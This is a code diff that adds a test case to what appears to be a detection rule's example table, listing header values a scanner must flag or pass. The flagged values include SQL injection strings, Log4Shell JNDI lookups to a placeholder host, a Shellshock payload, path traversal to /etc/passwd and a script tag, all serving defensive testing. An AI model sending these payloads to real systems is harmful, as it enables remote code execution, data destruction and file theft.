@@ -80,6 +80,25 @@ export const programs: Examples = {
     finds: ['bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13'],
     passes: ['bytes=0-499', 'bytes=0-1,5-9'],
   },
+  7706060: {
+    finds: [
+      "1' or 1=1 --",
+      '${jndi:ldap://198.51.100.7/a}',
+      '$%7bjndi:ldap://198.51.100.7/a}',
+      '1; drop table keys',
+      '() { :; }; id',
+      '../../etc/passwd',
+      '<script>',
+    ],
+    passes: [
+      '"8e03978e-40d5-43dd-bc93-6894a57f9324"',
+      "1.1 front.example, HTTP/2 proxy.example (Anna's proxy)",
+      'return=minimal; wait=10',
+      'W/"a--b\'c"',
+      'lib=a:b;c, other@place=00f067aa0ba902b7',
+    ],
+    at: 'header Idempotency-Key',
+  },
   7706050: {
     at: 'header Content-Type',
     finds: ['%{(#a=1)}'],
